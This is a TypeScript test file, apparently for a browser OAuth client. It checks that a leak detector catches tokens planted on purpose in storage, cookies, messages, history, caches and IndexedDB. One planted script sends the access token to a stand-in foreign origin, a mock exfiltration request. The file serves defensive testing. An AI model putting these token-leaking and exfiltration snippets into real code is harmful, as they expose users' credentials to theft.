import { secretsOf } from '../../support/secrets.js'
import { expect, test } from '../../support/test.js'

test('INV4, G14: the leak oracle finds what is leaked on purpose, in each place', async ({
  start,
}) => {
  const scene = await start()
  const tab = await scene.signIn()
  const second = await scene.openTab()
  await tab.call('notes')
  expect(await scene.oracle.findLeaks()).toEqual([])
  const secrets = secretsOf(scene.proxy.exchanges)
  const [access, refresh, id, verifier] = (
    ['access token', 'refresh token', 'ID token', 'code verifier'] as const
  ).map((kind) => secrets.find((secret) => secret.kind === kind)?.value ?? '')
  const plant = async (script: string, leak: string) => {
    await tab.page.evaluate(script)
    await expect.poll(() => scene.oracle.findLeaks()).toContain(leak)
  }

  await plant(`console.log('token:', ${JSON.stringify(access)})`, 'access token in console')
  await plant(
    `fetch('${scene.foreign.origin}/', { headers: { authorization: 'Bearer ${access}' } })`,
    'access token in a request that reached a foreign origin',
  )
  await plant(
    `fetch('${scene.api.origin}/?access_token=${access}')`,
    `access token in the url of GET ${scene.api.origin}/`,
  )
  await plant(
    `fetch('${scene.api.origin}/', { method: 'POST', body: '${refresh}' })`,
    `refresh token in the body of POST ${scene.api.origin}/`,
  )
  await plant(
    `fetch('${scene.proxy.origin}/token?v=${verifier}', { mode: 'no-cors' })`,
    `code verifier in the url of GET ${scene.proxy.origin}/token`,
  )
  await plant(`localStorage.setItem('t', '${refresh}')`, 'refresh token in localStorage')
  await plant(`sessionStorage.setItem('t', '${id}')`, 'ID token in sessionStorage')
  await plant(`document.cookie = 't=${refresh}'`, 'refresh token in document.cookie')
  await plant(
    `new BroadcastChannel('x').postMessage({ t: '${access}' })`,
    'access token in message BroadcastChannel',
  )
  await plant(`window.postMessage('${id}', '*')`, 'ID token in message window')
  await plant(`document.body.dataset.t = '${access}'`, 'access token in document')
  await plant(`history.replaceState({ t: '${access}' }, '')`, 'access token in history.state')
  await plant(`history.pushState(null, '', '/?t=${access}')`, 'access token in the history')
  await plant(`window.session = { token: '${access}' }`, 'access token in window')
  await plant(
    `caches.open('c').then((cache) => cache.put('/x', new Response('${access}')))`,
    'access token in cache c',
  )
  await plant(
    `new Promise((done) => {
      const opening = indexedDB.open('app')
      opening.onupgradeneeded = () => opening.result.createObjectStore('s').put('${access}', 1)
      opening.onsuccess = () => done(opening.result.close())
    })`,
    'access token in IndexedDB app',
  )
  await plant(`setTimeout(() => { throw new Error('${access}') })`, 'access token in page error')

  // what was planted on purpose is taken away with the profile's pages
  for (const { page } of [tab, second]) await page.close()
  await scene.context.clearCookies()
  scene.oracle.forget()
  scene.foreign.clearLog()
})
